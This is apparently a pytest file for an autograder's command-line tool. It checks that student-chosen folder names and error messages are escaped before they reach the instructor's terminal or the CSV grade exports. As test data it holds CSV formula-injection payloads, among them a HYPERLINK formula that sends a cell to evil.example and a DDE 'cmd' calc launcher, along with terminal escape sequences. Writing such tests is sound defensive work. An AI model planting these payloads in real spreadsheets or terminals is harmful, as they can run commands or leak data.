"""Every sink of a student-chosen string: the instructor's terminal and the CSV files a spreadsheet or an LMS
opens. A class whose students named their folders as an attacker would (terminal control sequences, formulas)
is graded through the CLI beside an innocent student, then reported and exported to every target: no
terminal control character reaches stdout or stderr, no CSV cell starts a formula, the files read back to
what was written (a rerun keeps every grade), and the innocent keeps full marks."""

import csv

import nbformat
import pytest
from cli import run_cli

from autograder.batch.submission import graded_cells
from autograder.commands import cli
from autograder.commands.demo import solved
from autograder.commands.grade import Summary
from autograder.layout import SOURCE, notebooks
from autograder.sinks import safe_text

ASSIGNMENT = "01_databases"
NOTEBOOK = notebooks(ASSIGNMENT)[0]
TERMINAL = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred"
# A folder name cannot hold "/": the folders' payloads have none, the rosters' have theirs.
HYPERLINK = '=HYPERLINK("evil.example?"&A1,"click")'
FORMULAS = [HYPERLINK, "+cmd|' \\C calc'!A0", "@SUM(1)", "-2+3"]
HOSTILE = [TERMINAL, *FORMULAS]
ROSTER_NAMES = [*HOSTILE, '=HYPERLINK("http://evil.example/"&A1,"click")', "+cmd|' /C calc'!A0"]
INNOCENT = "ada"
# Its message reaches the reason of the cell that calls it, and so grades.csv, the report and the summary.
RAISES = "def threshold_query(*args, **kwargs):\n    raise ValueError('\\x1b]0;owned\\x07\\x1b[2J=SUM(1) \\u202e')\n"
CONTROL = ("\x1b", "\x07", "\x9b", "\u202e")


def _run(*arguments, check=True):
    return run_cli(*arguments, check=check)


def _control_lines(text: str) -> list[str]:
    return [repr(line) for line in text.splitlines() if any(c in line for c in CONTROL)]


def _unsafe_cells(path) -> list[str]:
    """Cells of a CSV file that a spreadsheet would run as a formula."""
    with open(path, newline="", encoding="utf-8-sig") as file:
        return [
            cell
            for row in csv.reader(file)
            for cell in row
            if len(cell) > 1 and cell[0] in safe_text.FORMULA_START and not safe_text.NUMBER.fullmatch(cell)
        ]


def _roster_files(root):
    canvas = root / "canvas.csv"
    canvas.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,Databases (1),Current Score\n"
        "    Points Possible,,,,,6.00,(read only)\n"
        + "".join(f'"{name.replace(chr(34), chr(34) * 2)}",{2000 + i},,,DP,,\n' for i, name in enumerate(ROSTER_NAMES))
    )
    moodle = root / "moodle.csv"
    moodle.write_text(
        "First name,Last name,ID number,Email address,Assignment: 01_databases (Real)\n"
        + "".join(
            f'"{name.replace(chr(34), chr(34) * 2)}",x,{3000 + i},m{i}@example.edu,-\n'
            for i, name in enumerate(ROSTER_NAMES)
        )
    )
    return canvas, moodle


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory):
    root = tmp_path_factory.mktemp("sinks")
    submissions = root / "class"
    for student in [INNOCENT, *HOSTILE]:
        (submissions / student / ASSIGNMENT).mkdir(parents=True)
    nbformat.write(solved(ASSIGNMENT, NOTEBOOK), submissions / INNOCENT / ASSIGNMENT / NOTEBOOK)
    nbformat.write(
        solved(ASSIGNMENT, NOTEBOOK, replace={"threshold_query": RAISES}),
        submissions / TERMINAL / ASSIGNMENT / NOTEBOOK,
    )
    for student in FORMULAS:  # not notebooks: graded without a kernel, as malformed
        (submissions / student / ASSIGNMENT / NOTEBOOK).write_text('{"cells": [ \x1b]0;pwned\x07')
    (submissions / FORMULAS[0] / ASSIGNMENT / f"{TERMINAL}=1.txt").write_text("an extra file: an intake note")
    out = root / "out"
    first = _run("grade", submissions, "--out", out, "--assignment", ASSIGNMENT, "--workers", "1")
    grades = (out / "grades.csv").read_bytes()
    again = _run("grade", submissions, "--out", out, "--assignment", ASSIGNMENT, "--workers", "1")
    return root, out, [first, again], grades


@pytest.mark.slow  # starts a kernel
def test_innocent_keeps_full_marks(hostile_class):
    _, out, _, _ = hostile_class
    rows = [r for r in safe_text.read_rows(out / "grades.csv") if r["student"] == INNOCENT]
    auto = {
        c.name: c.max_score for c in graded_cells(nbformat.read(SOURCE / ASSIGNMENT / NOTEBOOK, 4)) if c.kind == "auto"
    }
    assert {r["cell"]: float(r["score"]) for r in rows if r["kind"] == "auto"} == auto
    assert all(r["reason"] == "" for r in rows if r["kind"] == "auto")


@pytest.mark.slow  # starts a kernel
def test_grade_prints_no_control_character(hostile_class):
    _, _, runs, _ = hostile_class
    for run in runs:
        assert not _control_lines(run.stdout + run.stderr)


@pytest.mark.slow  # starts a kernel
def test_rerun_reads_back_every_hostile_id(hostile_class):
    """The second run found every submission unchanged: each id and digest read back as it was written
    (intake may have given a hostile id a safe one, keeping the original as the name in students.csv)."""
    _, out, runs, grades = hostile_class
    graded_students = {r["student"] for r in safe_text.read_rows(out / "grades.csv")}
    assert f"{len(graded_students)} notebook(s) unchanged" in runs[1].stdout
    assert (out / "grades.csv").read_bytes() == grades
    known = {value for r in safe_text.read_rows(out / "students.csv") for value in (r["student"], r["name"])}
    assert set(HOSTILE) <= known and graded_students <= known


@pytest.mark.slow  # starts a kernel
def test_out_csv_files_start_no_formula(hostile_class):
    _, out, _, _ = hostile_class
    for name in ("grades.csv", "late.csv", "students.csv", "inputs.csv", "intake.csv"):
        assert (out / name).is_file(), name
        assert not _unsafe_cells(out / name) and not _control_lines((out / name).read_text()), name
    raw = (out / "grades.csv").read_text() + (out / "students.csv").read_text()
    assert "'=HYPERLINK" in raw and "'-2+3" in raw  # the hostile ids are there, as text


@pytest.mark.slow  # starts a kernel
def test_report_prints_no_control_character(hostile_class):
    _, out, _, _ = hostile_class
    result = _run("report", out)
    assert not _control_lines(result.stdout + result.stderr)
    assert not _control_lines((out / "report.txt").read_text())
    students = {r["student"] for r in safe_text.read_rows(out / "grades.csv")}
    assert all(safe_text.for_terminal(s) in result.stdout for s in students) and len(students) == len(HOSTILE) + 1


@pytest.mark.slow  # starts a kernel
@pytest.mark.parametrize("target", ["csv", "moodle", "moodle roster", "canvas roster"])
def test_export_is_safe(hostile_class, target):
    root, out, _, _ = hostile_class
    canvas, moodle = _roster_files(root)
    to, *roster = target.split()
    dest = root / f"export-{to}-{len(roster)}.csv"
    options = ["--roster", canvas if to == "canvas" else moodle] if roster else []
    result = _run("export", out, "--to", to, "--out", dest, "--partial", *options)
    assert not _control_lines(result.stdout + result.stderr)
    assert not _unsafe_cells(dest) and not _control_lines(dest.read_text(encoding="utf-8-sig"))
    with open(dest, newline="", encoding="utf-8-sig") as file:
        cells = {cell for row in csv.reader(file) for cell in row}
    if target != "moodle":  # the names (students.csv's or the roster's) are there, as text
        assert {"'-2+3", "'@SUM(1)", '\'=HYPERLINK("evil.example?"&A1,"click")'} <= cells
        assert "\\x1b]0;pwned\\x07\\x1b[2J\\x1b[31mred" in cells
    if roster:
        assert "'+cmd|' /C calc'!A0" in cells


@pytest.mark.slow  # starts a kernel
def test_report_escapes_what_intake_let_through(tmp_path):
    """The report's own escaping, whatever intake did: an OUT whose ids and reasons hold control sequences."""
    with open(tmp_path / "grades.csv", "w", newline="") as file:
        writer = safe_text.DictWriter(
            file,
            fieldnames=[
                "student",
                "assignment",
                "notebook",
                "cell",
                "kind",
                "score",
                "max_score",
                "reason",
                "sandbox",
                "seed",
            ],
        )
        writer.writeheader()
        for student, score, reason in [
            (TERMINAL, "0", TERMINAL),
            (HYPERLINK, "", f"grading error: {TERMINAL}"),
            (INNOCENT, "1", ""),
        ]:
            writer.writerow(
                dict(
                    student=student,
                    assignment=ASSIGNMENT,
                    notebook=f"{TERMINAL}.ipynb",
                    cell="test_create_db",
                    kind="auto",
                    score=score,
                    max_score="1",
                    reason=reason,
                    sandbox="on",
                    seed="1",
                )
            )
    result = _run("report", tmp_path)
    assert "\\x1b]0;pwned\\x07" in result.stdout and HYPERLINK in result.stdout
    assert not _control_lines(result.stdout + result.stderr + (tmp_path / "report.txt").read_text())


@pytest.mark.slow  # starts a kernel
def test_error_line_is_escaped(hostile_class):
    root, out, _, _ = hostile_class
    result = _run(
        "grade",
        root / "class",
        "--out",
        root / "other",
        "--assignment",
        ASSIGNMENT,
        "--student",
        TERMINAL + "x",
        check=False,
    )
    assert result.returncode == 1 and result.stderr.startswith("error: ")
    assert not _control_lines(result.stdout + result.stderr) and "Traceback" not in result.stderr
    result = _run("export", out, "--to", "canvas", "--roster", root / TERMINAL, "--out", root / "x.csv", check=False)
    assert result.returncode == 1 and result.stderr.startswith("error: ") and "\\x1b]0;pwned" in result.stderr
    assert not _control_lines(result.stdout + result.stderr)


@pytest.mark.slow  # starts a kernel
def test_grading_errors_summary_is_escaped(tmp_path, monkeypatch, capsys):
    """The summary's list of grading errors quotes student ids, notebook names and reasons."""
    (tmp_path / "intake.csv").write_text("student,file,note\n")
    summary = Summary(1, 1, [(TERMINAL, f"{TERMINAL}.ipynb", f"grading error: {TERMINAL}")], [], True)
    monkeypatch.setattr(cli.grading, "grade_class", lambda *args, **kwargs: ([], summary))
    cli.run_grade(tmp_path, tmp_path, None, None)
    printed = capsys.readouterr().out
    assert "1 grading error(s)" in printed and "\\x1b]0;pwned\\x07" in printed
    assert not _control_lines(printed)


def test_a_traceback_is_escaped(tmp_path, monkeypatch, capsys):
    """A fault of the grader still prints its traceback, but no student text in it raw."""

    def fails(*args, **kwargs):
        raise RuntimeError(f"while writing {TERMINAL}")

    monkeypatch.setattr(cli.grading, "grade_class", fails)
    assert cli.main(["grade", str(tmp_path), "--out", str(tmp_path / "out")]) == 1
    err = capsys.readouterr().err
    assert err.startswith("Traceback") and "RuntimeError: while writing \\x1b]0;pwned\\x07" in err
    assert not _control_lines(err)


HOSTILE_CELLS = [
    *HOSTILE,
    "'t Hooft",
    "''quoted",
    "\ttab",
    "\rcr",
    "\uff1dSUM(1)",
    "-",
    "'",
    "",
    "plain",
    "'\\x1b",
    "\\x1b",
    "=\x07",
    "caf\xe9\x9b\udcff",
    "C:\\Users\\n",
]


@pytest.mark.parametrize("value", HOSTILE_CELLS, ids=repr)
def test_cell_round_trip(tmp_path, value):
    """OUT's files read back what was written, and no cell of them or of an export starts a formula."""
    path = tmp_path / "t.csv"
    with open(path, "w", newline="") as file:
        writer = safe_text.writer(file)
        writer.writerow(["value", "score"])
        writer.writerow([value, "-0.5"])
    assert safe_text.read_rows(path) == [{"value": value, "score": "-0.5"}]
    assert not _unsafe_cells(path) and not _control_lines(path.read_text().replace("\r\n", "\n"))
    assert not (len(safe_text.formula_safe(value)) > 1 and safe_text.formula_safe(value)[0] in safe_text.FORMULA_START)


@pytest.mark.parametrize("number", ["-0.5", "1e-3", "-1e-05", "0", "-12", "6.25"])
def test_numbers_stay_numbers(number):
    assert safe_text.escape_cell(number) == safe_text.formula_safe(number) == number


@pytest.mark.parametrize(
    "text", [TERMINAL, "a\u202eb", "zero\u200bwidth", "line\u2028sep", "c1\x9b2J", "nl\nx", "bad\udcffbyte"], ids=repr
)
def test_for_terminal_shows_no_control_character(text):
    shown = safe_text.for_terminal(text)
    assert shown.isprintable()
    assert not any(c in shown for c in CONTROL)
    assert safe_text.for_terminal("plain text, é and 中文") == "plain text, é and 中文"
